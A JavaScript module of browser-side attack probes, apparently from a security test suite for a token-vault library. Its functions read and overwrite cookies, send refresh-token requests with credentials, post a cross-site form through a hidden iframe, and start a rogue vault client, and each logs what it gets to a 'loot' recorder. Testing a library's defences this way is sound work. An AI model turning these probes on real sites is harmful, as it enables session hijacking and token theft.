// What a script can do where a backend keeps the refresh token behind a cookie: look for the cookie, put one in its
// place, and ask the backend itself.
import { loot } from "./attacker.js";

const { tw } = window;

/** Looks for cookies wherever a page finds them, and leaves one to be found. */
export async function read(attack, word) {
  document.cookie = `seen=${word}; path=/`;
  loot(attack, [document.cookie, (await window.cookieStore?.getAll()) ?? []]);
}

/** Puts a cookie of its own in the place of each name. */
export async function replace(attack, names) {
  for (const name of names) {
    for (const attributes of ["path=/", "path=/; secure", "path=/; secure; domain=localhost"]) {
      document.cookie = `${name}=mine; ${attributes}`;
      await window.cookieStore?.set({ name, value: "mine" }).catch(() => {});
    }
  }
  loot(attack, document.cookie);
}

/** Asks for tokens, with the cookie that the browser adds. */
export async function ask(attack, url, clientId, headers) {
  const body = new URLSearchParams({ grant_type: "refresh_token", client_id: clientId });
  try {
    const answer = await fetch(url, { method: "POST", credentials: "include", headers, body });
    loot(attack, await answer.text());
    return answer.status;
  } catch ({ name }) {
    loot(attack, name);
    return name;
  }
}

/** The same through the vault, whose origin and cookies it has then. */
export async function askThrough(attack, url, clientId) {
  const body = new URLSearchParams({ grant_type: "refresh_token", client_id: clientId });
  const headers = { "X-Tokenward": "1" };
  try {
    const answer = await tw.auth.fetch(url, {
      method: "POST",
      credentials: "include",
      headers,
      body,
    });
    loot(attack, await answer.text());
    return answer.status;
  } catch ({ code }) {
    loot(attack, code);
    return code;
  }
}

/** Has the browser post a form there, as every site can. */
export async function post(attack, url, clientId) {
  const name = `frame${Math.random()}`;
  const frame = Object.assign(document.createElement("iframe"), { name, hidden: true });
  const form = Object.assign(document.createElement("form"), { method: "post", action: url });
  form.target = name;
  for (const [member, value] of [
    ["grant_type", "refresh_token"],
    ["client_id", clientId],
  ]) {
    form.append(Object.assign(document.createElement("input"), { name: member, value }));
  }
  document.body.append(frame, form);
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
  form.submit();
  await loaded;
  let seen = "nothing";
  try {
    seen = frame.contentDocument?.documentElement.textContent ?? seen;
  } catch ({ name }) {
    seen = name;
  }
  loot(attack, seen);
}

/** Starts a vault of its own that has the backend's address and whatever origins it likes. */
export async function start(attack, url, origins) {
  const { createClient } = await import("/pkg/index.js");
  const resources = origins.map((origin) => ({ origin }));
  const own = createClient({ ...tw.settings.options, vaultUrl: url, resources });
  try {
    await own.ready;
    loot(attack, JSON.stringify(own.state));
    return own.state.status;
  } catch ({ code }) {
    loot(attack, code);
    return code;
  } finally {
    own.close();
  }
}
